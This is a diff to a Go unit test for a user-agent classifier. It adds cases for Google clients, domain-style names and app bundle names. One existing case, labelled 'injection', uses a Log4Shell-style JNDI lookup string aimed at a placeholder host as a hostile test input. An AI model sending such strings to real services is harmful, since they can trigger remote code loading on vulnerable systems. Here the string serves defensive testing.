@@ -85,6 +85,10 @@ func TestClassify(t *testing.T) {
 
 		{"Googlebot", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", Client{Class: aerv1.ClassBot, Family: "googlebot", Version: "2.1"}},
 		{"robot with an engine", "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ExampleUser/0.1) Chrome/119.0.6045.214 Safari/537.36", Client{Class: aerv1.ClassBot, Family: "exampleuser", Version: "0.1"}},
+		{"Google's servers", "GoogleExample/1.0", Client{Class: aerv1.ClassBot, Family: "googleexample", Version: "1.0"}},
+		{"Google's updater", "Google Update/1.3.36;winhttp", Client{Class: aerv1.ClassOther, Family: "google-update", Version: "1.3.36"}},
+		{"a site as a name", "Acme.com/1.0", Client{Class: aerv1.ClassBot, Family: "acme.com", Version: "1.0"}},
+		{"a bundle as a name", "io.acme.app/1.0", Client{Class: aerv1.ClassOther, Family: "io.acme.app", Version: "1.0"}},
 		{"mail address", winChrome + " admin@example.com", Client{aerv1.ClassBot, "safari", "537.36", OSWindows, DeviceDesktop}},
 		{"injection", "${jndi:ldap://x.example/a}", Client{Class: aerv1.ClassBot, Family: "jndi"}},
 	}
